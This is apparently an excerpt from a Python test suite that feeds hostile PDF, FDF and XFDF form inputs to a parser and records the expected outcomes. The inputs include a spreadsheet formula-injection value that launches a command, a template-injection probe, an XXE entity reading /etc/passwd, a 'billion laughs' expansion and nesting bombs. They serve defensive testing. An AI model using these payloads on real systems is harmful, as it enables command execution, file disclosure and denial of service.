    "form with nothing but what has no width": _pdf(lambda: saying("\u200b\u200b\u2060", TITLE), NOT_TAKEN),
    "form with a formula for a value": _pdf(
        lambda: holding(b"(=cmd|'/c calc'!A1)", TIMELINE),
        Expected(frozenset({0, 3}), record=True, means={"table_b.low.timeline": "=cmd|'/c calc'!A1"}),
    ),
    "form with a template for a value": _pdf(
        lambda: holding(b"({{ 7*7 }}{% raw %})", TIMELINE),
        Expected(frozenset({0, 3}), record=True, means={"table_b.low.timeline": "{{ 7*7 }}{% raw %}"}),
    ),
    # The data of a form
    "fdf in a circle": of_bytes(fdf_in_a_circle, "return.fdf", NOT_TAKEN),
    "fdf of 50,000 fields": of_bytes(
        lambda: fdf(b"".join(b"<</T(f%d)/V(x)>>" % number for number in range(50_000))), "return.fdf", NOT_TAKEN
    ),
    "fdf that is 20,000 deep": of_bytes(
        lambda: fdf(b"<</T(form_reference)/Kids[" * 20_000 + b"]>>" * 20_000), "return.fdf", NOT_TAKEN
    ),
    "fdf with a bomb for a value": of_bytes(
        lambda: fdf(b"<</T(form_reference)/V(" + b"x" * 20_000_000 + b")>>"), "return.fdf", NOT_TAKEN
    ),
    "xfdf with a thousand million laughs": of_bytes(
        lambda: xfdf('<field name="form_reference"><value>&e9;</value></field>', entities(10)), "return.xfdf", NOT_TAKEN
    ),
    "xfdf with a file from the disk": of_bytes(
        lambda: xfdf(
            '<field name="form_reference"><value>&e;</value></field>',
            '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        ),
        "return.xfdf",
        NOT_TAKEN,
    ),
    "xfdf that is 100,000 deep": of_bytes(
        lambda: xfdf('<field name="a">' * 100_000 + "</field>" * 100_000), "return.xfdf", NOT_TAKEN
    ),
    "xfdf with an attribute of 10 MB": of_bytes(
        lambda: xfdf(f'<field name="{"n" * 10_000_000}"><value>x</value></field>'), "return.xfdf", NOT_TAKEN
    ),
}
"""Each name with its input."""
